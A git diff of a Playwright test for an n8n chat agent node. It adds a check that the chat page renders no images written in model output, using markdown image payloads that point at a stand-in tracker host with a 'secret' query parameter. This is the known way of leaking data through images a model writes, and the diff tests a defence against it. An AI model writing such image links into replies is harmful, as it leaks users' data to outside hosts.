@@ -4,7 +4,7 @@ import type { Browser } from 'playwright-core';
 import { Running } from '../../lab/services/Running';
 import { startBrowser } from '../../lab/browser/startBrowser';
 import { chatUrl } from '../../lab/n8n/streamChat';
-import { startScriptedServer, type Script } from '../support/scriptedServer';
+import { events, json, startScriptedServer, type Script } from '../support/scriptedServer';
 import { node, workflow } from './support/buildWorkflow';
 import { heldReply, text } from './support/heldReply';
 import { inChat } from './support/inChat';
@@ -21,6 +21,8 @@ const TOOL_START = {
 	session_id: 's-1',
 	extension: { type: 'tool_start', data: { tool: 'search', arguments: { query: 'n8n' } } },
 };
+
+const END = { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] };
 
 const running = new Running();
 let session: Session;
@@ -56,13 +58,21 @@ afterAll(async () => {
 async function publish(
 	name: string,
 	type: 'superAssistant' | 'chatCompletion',
-	{ credential, parameters }: { readonly credential: string; readonly parameters: object },
+	{
+		credential,
+		parameters,
+		options = { responseMode: 'streaming' },
+	}: {
+		readonly credential: string;
+		readonly parameters: object;
+		readonly options?: object;
+	},
 ): Promise<string> {
 	const { client, n8n } = session;
 	const ref = await client.importWorkflow(
 		workflow(name, [
 			node('Chat', '@n8n/n8n-nodes-langchain.chatTrigger', 1.3, {
-				parameters: { public: true, options: { responseMode: 'streaming' } },
+				parameters: { public: true, options },
 				webhookId: name,
 			}),
 			node('Answer', `n8n-nodes-agent-video.${type}`, 1, { parameters, credential }),
@@ -134,6 +144,41 @@ it(
 			expect(reply.isFinished()).toBe(false);
 			reply.finish();
 			await chat.shows('The first and the last.');
+		});
+	},
+	BROWSER_LIMIT_MS,
+);
+
+it.each([
+	['streaming', {}],
+	['lastNode', { streaming: 'off' }],
+])(
+	'the page loads no image that a model has written: %s',
+	async (responseMode, streaming) => {
+		const image =
+			'![a](http://tracker.example/?d=secret) ![b][r]\n\n[r]: http://tracker.example';
+		const drawn = 'data:image/png;base64,iVBORw0KGgo=';
+		const pieces = `Look: ${image}\n\n![c](${drawn})\n\nThat is all`.split(/(?=[![(])/);
+		answer = (response) => {
+			if (responseMode === 'streaming') events(response, [...pieces.map(text), END]);
+			else json(response, 200, { choices: [{ message: { content: pieces.join('') } }] });
+		};
+		const name = `images-${responseMode}`;
+		const url = await publish(name, 'chatCompletion', {
+			credential: 'Scripted',
+			parameters: { prompt: '={{ $json.chatInput }}', ...streaming },
+			options: { responseMode },
+		});
+		await inChat(browser, { url, name }, async (chat) => {
+			await chat.ask('Hi');
+			await chat.shows('That is all');
+			const sources = chat.page.locator('.chat-message-from-bot img');
+			expect(
+				await sources.evaluateAll((all) =>
+					all.map((one) => (one as unknown as { readonly src: string }).src),
+				),
+			).toStrictEqual([drawn]);
+			expect(chat.blocked).toStrictEqual([]);
 		});
 	},
 	BROWSER_LIMIT_MS,
